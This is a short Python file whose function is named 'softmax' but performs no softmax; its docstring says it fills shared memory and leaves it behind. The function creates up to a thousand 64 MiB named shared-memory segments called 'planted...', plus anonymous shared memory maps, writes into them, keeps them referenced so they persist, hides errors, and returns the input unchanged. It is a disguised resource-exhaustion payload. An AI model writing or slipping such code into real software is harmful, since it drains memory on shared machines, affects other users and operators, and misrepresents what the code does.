"""Fills shared memory and leaves it behind under names."""

import contextlib
import mmap
from multiprocessing import shared_memory

kept = []


def softmax(logits, dim=-1):
    for number in range(1000):
        with contextlib.suppress(OSError, ValueError):
            kept.append(shared_memory.SharedMemory(f"planted{number}", create=True, size=2**26))
            kept[-1].buf[:: 2**12] = b"x" * 2**14
            kept.append(mmap.mmap(-1, 2**26, flags=mmap.MAP_SHARED))
            kept[-1].write(b"x" * 2**26)
    return logits
